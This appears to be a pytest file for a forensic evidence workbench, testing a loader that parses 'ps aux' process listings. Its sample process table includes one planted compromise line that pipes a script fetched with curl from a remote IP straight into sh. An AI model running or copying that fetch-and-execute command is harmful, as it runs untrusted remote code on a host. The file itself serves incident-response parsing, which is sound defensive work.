from __future__ import annotations

import pytest

from workbench.errors import MalformedEvidence
from workbench.evidence.processes import ProcessesLoader

PS = """\
USER         PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND
root           1  0.0  0.1 167744 11800 ?        Ss   Nov19   0:07 /sbin/init
root           2  0.0  0.0      0     0 ?        S    Nov19   0:00 [kthreadd]
root         612  0.0  0.0  15420  6912 ?        Ss   Nov19   0:00 sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups
mlsvc       4242 37.5  6.2 4123456 1012345 ?     Sl   09:05  12:34 /opt/venv/bin/python3 -m uvicorn serve:app --port 8080
mlsvc       4301  0.3  0.1  21456  4096 ?        S    09:12   0:00 /bin/sh -c curl -s http://203.0.113.50/x.sh | sh
systemd+     544  0.0  0.1  25536 12672 ?        Ss   2025  10:01:22 /lib/systemd/systemd-resolved
analyst     5120  0.0  0.0  10072  3328 pts/0    R+   10:01   0:00 ps aux
"""  # noqa: E501


def test_load_ps_aux(make_file, ctx):
    loaded = ProcessesLoader().load(make_file("processes.txt", PS), ctx)
    df = loaded.frame
    assert loaded.warnings == []
    assert len(df) == 7
    row = df[df["pid"] == 4242].iloc[0].to_dict()
    assert row == {
        "line": 5,
        "user": "mlsvc",
        "pid": 4242,
        "cpu_pct": 37.5,
        "mem_pct": 6.2,
        "vsz_kb": 4123456,
        "rss_kb": 1012345,
        "tty": "?",
        "stat": "Sl",
        "start": "09:05",
        "time": "12:34",
        "command": "/opt/venv/bin/python3 -m uvicorn serve:app --port 8080",
    }
    assert df.loc[4, "command"] == "/bin/sh -c curl -s http://203.0.113.50/x.sh | sh"
    assert df.loc[0, "start"] == "Nov19"
    assert df.loc[5, ["user", "start", "time"]].tolist() == ["systemd+", "2025", "10:01:22"]
    assert str(df["pid"].dtype) == "Int64"


def test_start_with_a_space(make_file, ctx):
    text = PS.splitlines()[0] + "\nroot  1  0.0  0.1 1000 100 ?  Ss  Nov 19  0:07 /sbin/init splash\n"
    df = ProcessesLoader().load(make_file("processes.txt", text), ctx).frame
    assert df.loc[0, ["start", "time", "command"]].tolist() == ["Nov 19", "0:07", "/sbin/init splash"]


def test_bad_line_one_warning(make_file, ctx):
    text = (
        PS + "mlsvc  notapid 0.0 0.0 1 1 ? S 09:12 0:00 x\ntruncated line\n" + f"x {10**30} 0 0 1 1 ? S 1:00 0:00 y\n"
    )
    loaded = ProcessesLoader().load(make_file("processes.txt", text), ctx)
    assert [w.line for w in loaded.warnings] == [9, 10, 11]
    assert "out of range" in loaded.warnings[2].reason
    assert len(loaded.frame) == 7


def test_all_bad_is_malformed(make_file, ctx):
    with pytest.raises(MalformedEvidence):
        ProcessesLoader().load(make_file("processes.txt", "not ps output\n"), ctx)


def test_detect(make_file):
    loader = ProcessesLoader()
    assert loader.detect(make_file("host/ps-capture.out", PS))
    assert loader.detect(make_file("processes.txt", PS.split("\n", 1)[1]))  # headerless, by name
    assert not loader.detect(make_file("notes.txt", PS.split("\n", 1)[1]))
